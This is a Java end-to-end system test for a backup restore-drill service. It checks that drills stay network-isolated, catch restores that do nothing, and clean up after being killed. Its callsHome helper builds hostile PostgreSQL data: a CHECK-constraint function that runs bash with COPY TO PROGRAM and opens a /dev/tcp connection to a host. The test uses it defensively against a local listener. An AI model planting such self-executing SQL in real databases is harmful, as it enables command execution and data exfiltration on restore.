package dev.muster.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import dev.muster.testkit.Covers;
import java.io.IOException;
import java.net.ServerSocket;
import java.net.URI;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.ResourceAccessMode;
import org.junit.jupiter.api.parallel.ResourceLock;
import org.junit.jupiter.api.parallel.ResourceLockTarget;

/// What a drill must withstand: data that acts, a network that is open, a restore that does
/// nothing, its own death.
@SystemTest
@Order(1) // drills wait for each other: the sooner they begin, the better
@ResourceLock(
    value = Part.DRILLS,
    mode = ResourceAccessMode.READ,
    target = ResourceLockTarget.CHILDREN)
@ResourceLock(
    value = Part.NETWORK,
    mode = ResourceAccessMode.READ,
    target = ResourceLockTarget.CHILDREN)
final class DrillGuardST {

  private final Node node;

  DrillGuardST(Node node) {
    this.node = node;
  }

  @Test
  @Covers("F93")
  void dataThatCallsHomeReachesNobody() throws IOException {
    try (Listener home = new Listener();
        Tenant tenant = database("hostile", "{}")) {
      String host = URI.create(node.environment("MUSTER_S3_ENDPOINT")).getHost();
      tenant.psql("db-0", callsHome(host, home.port()));
      tenant.psql("db-0", "INSERT INTO hostile VALUES (1)");
      await("the data calls home where it may").until(() -> home.calls() > 0);
      Backup.ask(node, tenant).sealed();
      int before = home.calls();

      JsonNode outcome = Drill.ask(node, tenant).outcome();

      assertThat(outcome.path("outcome").asText()).as(outcome.toString()).isEqualTo("proven");
      assertThat(home.calls()).isEqualTo(before);
    }
  }

  @Test
  @Covers("F93")
  @ResourceLock(Part.NETWORK)
  void networkThatIgnoresPoliciesIsNoPlaceForADrill() {
    try (Tenant tenant = database("open", "{}")) {
      Backup.ask(node, tenant).sealed();
      network("off");
      try {
        JsonNode outcome = Drill.ask(node, tenant).outcome();

        assertThat(outcome.path("outcome").asText())
            .as(outcome.toString())
            .isEqualTo("inconclusive");
        assertThat(outcome.path("step").asText()).isEqualTo("isolation");
        assertThat(outcome.path("detail").asText()).contains("network is not isolated");
      } finally {
        network("on");
      }
    }
  }

  @Test
  @Covers("F92")
  void restoreThatDoesNothingIsDisprovenThoughEverythingIsReady() {
    try (Tenant tenant = database("forgetful", "{muster.dev/engine: forgetful}")) {
      Backup.ask(node, tenant).sealed();

      JsonNode outcome = Drill.ask(node, tenant).outcome();

      assertThat(outcome.path("outcome").asText()).as(outcome.toString()).isEqualTo("disproven");
      assertThat(outcome.path("step").asText()).isEqualTo("schema");
      assertThat(outcome.path("detail").asText()).contains("tables missing", "public.t");
    }
  }

  @Test
  @Covers("F94")
  @ResourceLock(Part.DRILLS)
  void drillThatIsKilledHalfWayIsRunAgainAndLeavesNothing() {
    try (Tenant tenant = database("killed", "{}")) {
      Backup.ask(node, tenant).sealed();
      Drill drill = Drill.ask(node, tenant);
      String first =
          await("the drill's namespace")
              .atMost(Duration.ofMinutes(1))
              .until(this::sandboxes, names -> !names.isEmpty())
              .getFirst();

      JsonNode pod =
          node.kubectl().list("pod", "muster", "app.kubernetes.io/component=drill").getFirst();
      Processes.kill(node, pod, "drill");

      JsonNode outcome = drill.outcome();
      assertThat(outcome.path("outcome").asText()).as(outcome.toString()).isEqualTo("proven");
      await("no namespace of a drill is left")
          .atMost(Duration.ofMinutes(2))
          .until(this::sandboxes, List::isEmpty);
      assertThat(first).startsWith("muster-drill-");
    }
  }

  private List<String> sandboxes() {
    return node.kubectl()
        .ok("get", "namespaces", "-l", "muster.dev/role=drill", "-o", "name")
        .lines()
        .map(name -> name.substring(name.indexOf('/') + 1))
        .toList();
  }

  private void network(String state) {
    node.shell()
        .run(Duration.ofMinutes(1), "", List.of("dev/testbed/testbed", "netpol", state))
        .orFail();
  }

  private Tenant database(String purpose, String annotations) {
    Tenant tenant = Tenant.create(node.kubectl(), purpose, "baseline");
    tenant.apply(Databases.postgres(0, annotations));
    tenant.ready("db-0");
    tenant.psql("db-0", "CREATE TABLE t AS SELECT n FROM generate_series(1, 1000) n");
    return tenant;
  }

  /// A table that opens a connection whenever a row of it is written, as a restore does.
  private static String callsHome(String host, int port) {
    return """
    CREATE FUNCTION public.home(n int) RETURNS boolean LANGUAGE plpgsql AS $f$
    BEGIN
      COPY (SELECT 1) TO PROGRAM 'timeout 3 bash -c "echo > /dev/tcp/%s/%d" || true';
      RETURN true;
    END $f$;
    CREATE TABLE public.hostile (n int CHECK (public.home(n)));
    """
        .formatted(host, port);
  }

  /// Counts who connects.
  private static final class Listener implements AutoCloseable {
    private final ServerSocket socket = new ServerSocket(0);
    private final AtomicInteger calls = new AtomicInteger();

    Listener() throws IOException {
      Thread.ofVirtual().start(this::listen);
    }

    int port() {
      return socket.getLocalPort();
    }

    int calls() {
      return calls.get();
    }

    private void listen() {
      try {
        while (true) {
          socket.accept().close();
          calls.incrementAndGet();
        }
      } catch (IOException e) {
        // closed: the test is over
      }
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }
}
